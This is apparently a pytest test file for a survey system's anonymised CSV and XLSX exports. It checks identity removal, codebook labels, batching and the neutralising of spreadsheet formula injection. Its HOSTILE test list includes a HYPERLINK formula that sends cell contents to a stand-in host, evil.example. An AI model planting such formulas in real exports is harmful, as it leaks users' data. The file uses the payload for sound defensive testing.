"""Exports: one row per response, codes and labels, no identity, nothing a spreadsheet executes.

The per-response export is anonymous (k = 5): these tests arrange at least five responses, and
find the free-text answers (the comments) in the separate free-text file.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from portal.db import database, utcnow
from surveys import exports, response_rows
from surveys.answering import submit_response
from surveys.campaigns import campaign_definition
from surveys.models import Campaign
from tests.integration.surveys.builders import answers_for, make_campaign, make_invitation

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "  =1+1",
    "\tTabbed",
    "\rCarriage",
]


def write(app, campaign_id: int, fmt: str, locale: str = "en", *, free_text: bool = False):
    """An audited anonymous (or free-text) export of the campaign, written to bytes."""
    action = exports.export_free_text if free_text else exports.export_responses
    with database(app).transaction() as session:
        export = action(session, None, campaign_id, fmt=fmt, locale=locale, k=5)
    buffer = io.BytesIO()
    exports.write_export(database(app).transaction, export, buffer)
    return buffer.getvalue()


def write_codebook(app, campaign_id: int, locale: str = "en") -> bytes:
    """The codebook of an audited anonymous CSV export, as CSV bytes."""
    with database(app).transaction() as session:
        export = exports.export_responses(session, None, campaign_id, fmt="csv", locale=locale, k=5)
    buffer = io.BytesIO()
    assert exports.write_codebook(database(app).transaction, export, buffer)
    return buffer.getvalue()


def csv_rows(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def arrange(app, shipped, comments: list[str]) -> int:
    definition = shipped["volunteer_exit"]
    with database(app).transaction() as session:
        campaign = make_campaign(session)
        for number, comment in enumerate(comments):
            invitation, _ = make_invitation(
                session,
                campaign,
                email=f"secret{number}@example.org",
                name="Secret Name",
                gender="female",
                age=24,
                nationality="FJI",
            )
            answers = answers_for(
                definition, comments=comment, skills_gained=["technical", "digital"]
            )
            submit_response(
                session,
                invitation,
                campaign_definition(campaign),
                answers,
                utcnow(),
                "developing_2017",
            )
        return campaign.id


def test_neutralise_prefixes_executable_text_and_keeps_numbers() -> None:
    assert [exports.neutralise(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
    assert exports.neutralise("A fine comment - really") == "A fine comment - really"
    assert exports.neutralise(-5) == -5
    assert exports.neutralise(3.5) == 3.5


def test_xlsx_has_no_formula_cells_and_keeps_the_text(app, shipped) -> None:
    campaign_id = arrange(app, shipped, HOSTILE)
    main = openpyxl.load_workbook(io.BytesIO(write(app, campaign_id, "xlsx")))
    assert "codebook" in main.sheetnames
    text = openpyxl.load_workbook(io.BytesIO(write(app, campaign_id, "xlsx", free_text=True)))
    for workbook in (main, text):
        cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
        assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    sheet = text["free_text"]
    header = [cell.value for cell in sheet[1]]
    comments = [
        row[header.index("answer")]
        for row in sheet.iter_rows(min_row=3, values_only=True)
        if row[header.index("question_key")] == "comments"
    ]
    assert sorted(comments) == sorted("'" + value for value in HOSTILE)
    assert all(value.startswith("'") for value in comments)


def test_xlsx_numbers_stay_numeric(app, shipped) -> None:
    campaign_id = arrange(app, shipped, ["fine"] * 5)
    sheet = openpyxl.load_workbook(io.BytesIO(write(app, campaign_id, "xlsx")))["responses"]
    header = [cell.value for cell in sheet[1]]
    row = [cell for cell in sheet[3]]
    assert row[header.index("response")].data_type == "n"
    assert row[header.index("reporting_year")].value == utcnow().year


def test_csv_has_codes_labels_one_header_row_and_no_identity(app, shipped) -> None:
    campaign_id = arrange(app, shipped, ["=1+1", "plain", "fine", "good", "ok"])
    raw = write(app, campaign_id, "csv", "fr")
    assert raw.startswith("\ufeff".encode())
    rows = csv_rows(raw)
    keys, data = rows[0], rows[1:]
    assert len(data) == 5
    assert "satisfied_experience" in keys and "satisfied_experience_label" in keys
    definition = shipped["volunteer_exit"]
    # The labels are in the codebook, one row per column (per code for a choice question).
    labels = {row[0]: row[1] for row in csv_rows(write_codebook(app, campaign_id, "fr"))[1:]}
    assert labels["satisfied_experience"] == definition.question("satisfied_experience").label["fr"]
    assert set(keys) <= set(labels)
    first = dict(zip(keys, data[0], strict=True))
    assert first["satisfied_experience"] == "fully_agree"
    assert first["satisfied_experience_label"] == "Tout à fait d'accord"
    assert first["skills_gained"] == "technical;digital"
    assert (first["gender"], first["youth"], first["sids"], first["age_band"]) == (
        "female",
        "yes",
        "yes",
        "18_29",
    )
    text = raw.decode("utf-8-sig")
    assert "secret0@example.org" not in text and "Secret Name" not in text
    assert "FJI" not in text  # nationality is never exported, only its groups
    # Free text is not in the main file; it comes in its own file, without the groups.
    assert "comments" not in keys and "plain" not in text
    free = csv_rows(write(app, campaign_id, "csv", free_text=True))
    assert free[0] == ["question_key", "question", "answer"]
    assert sorted(row[2] for row in free[1:] if row[0] == "comments") == [
        "'=1+1",
        "fine",
        "good",
        "ok",
        "plain",
    ]


def test_a_large_csv_export_streams_in_batches(app, shipped, monkeypatch) -> None:
    monkeypatch.setattr(response_rows, "BATCH", 2)
    campaign_id = arrange(app, shipped, [f"comment {n}" for n in range(5)])
    with database(app).transaction() as session:
        export = exports.export_responses(session, None, campaign_id, fmt="csv", locale="en", k=5)
    rows = list(exports.export_rows(database(app).transaction, export))
    assert len(rows) == 2 + 5
    assert [row[0] for row in rows[2:]] == [1, 2, 3, 4, 5]  # numbered in (shuffled) order


def test_cli_exports_both_formats(app, runner, shipped, tmp_path) -> None:
    campaign_id = arrange(app, shipped, ["@cmd"] * 5)
    for fmt in ("csv", "xlsx"):
        for extra in ([], ["--free-text"]):
            out = tmp_path / f"export{len(extra)}.{fmt}"
            result = runner.invoke(
                args=[
                    "surveys",
                    "export-responses",
                    str(campaign_id),
                    "--format",
                    fmt,
                    "--out",
                    str(out),
                    *extra,
                ]
            )
            assert result.exit_code == 0, result.output
            assert out.stat().st_size > 0
    assert "'@cmd" in (tmp_path / "export1.csv").read_text(encoding="utf-8-sig")
    assert "@cmd" not in (tmp_path / "export0.csv").read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_staff_download_of_an_export(app, auth, client, shipped, fmt) -> None:
    from tests.factories import make_user

    campaign_id = arrange(app, shipped, ["+danger"] * 5)
    with database(app).transaction() as session:
        user = make_user(session, "staff")
    auth.login(user.email)
    response = client.get(f"/surveys/campaigns/{campaign_id}/export/{fmt}")
    assert response.status_code == 200
    assert f"campaign-{campaign_id}-volunteer_exit" in response.headers["Content-Disposition"]
    assert b"+danger" not in response.get_data()  # read to the end: free text is not in it
    response = client.get(f"/surveys/campaigns/{campaign_id}/export/free-text/{fmt}")
    assert response.status_code == 200
    assert "free-text" in response.headers["Content-Disposition"]
    body = response.get_data()
    if fmt == "csv":
        assert "'+danger" in body.decode("utf-8-sig")
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(body))["free_text"]
        assert "'+danger" in [cell.value for row in sheet.iter_rows() for cell in row]


def test_every_export_carries_the_campaigns_survey_version(app, shipped) -> None:
    campaign_id = arrange(app, shipped, ["fine"] * 5)
    with database(app).transaction() as session:
        version = session.get(Campaign, campaign_id).definition_version.version
    assert version == 3
    rows = csv_rows(write(app, campaign_id, "csv"))
    keys = rows[0]
    assert keys[-1] == "survey_version"  # appended: every other column keeps its place
    book = csv_rows(write_codebook(app, campaign_id))
    assert ["survey_version", "Survey version", "", ""] in book  # its label is in the codebook
    assert [row[keys.index("survey_version")] for row in rows[1:]] == ["3"] * 5
    sheet = openpyxl.load_workbook(io.BytesIO(write(app, campaign_id, "xlsx")))["responses"]
    header = [cell.value for cell in sheet[1]]
    assert [
        row[header.index("survey_version")] for row in sheet.iter_rows(min_row=3, values_only=True)
    ] == [3] * 5
    with database(app).transaction() as session:
        export = exports.export_identifiable_responses(
            session, None, campaign_id, fmt="csv", locale="fr"
        )
    buffer = io.BytesIO()
    exports.write_export(database(app).transaction, export, buffer)
    identifiable = csv_rows(buffer.getvalue())
    assert {row[identifiable[0].index("survey_version")] for row in identifiable[1:]} == {"3"}
